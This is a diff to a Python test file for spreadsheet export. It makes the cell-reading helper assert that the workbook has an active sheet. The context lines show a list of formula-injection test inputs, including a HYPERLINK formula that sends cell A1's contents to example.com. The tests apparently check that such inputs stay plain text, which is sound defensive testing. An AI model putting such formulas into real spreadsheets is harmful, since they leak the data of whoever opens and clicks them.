@@ -44,7 +44,9 @@ HOSTILE = ["=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")", "+1+1", "-2
 
 
 def cells(content: bytes) -> list:
-    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert sheet is not None  # a saved workbook has its sheet
+    return [cell for row in sheet.iter_rows() for cell in row]
 
 
 def assert_kept_as_text(cell) -> None:
